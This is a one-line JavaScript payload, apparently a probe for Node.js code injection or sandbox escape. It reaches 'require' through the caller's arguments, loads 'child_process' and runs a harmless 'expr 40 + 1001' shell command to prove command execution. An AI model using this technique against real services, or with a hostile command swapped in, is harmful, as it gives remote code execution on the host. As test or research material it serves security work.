(function g(){ return arguments.callee.caller.arguments[1]('child_process').execSync('expr 40 + 1001',{stdio:'inherit'}) })();
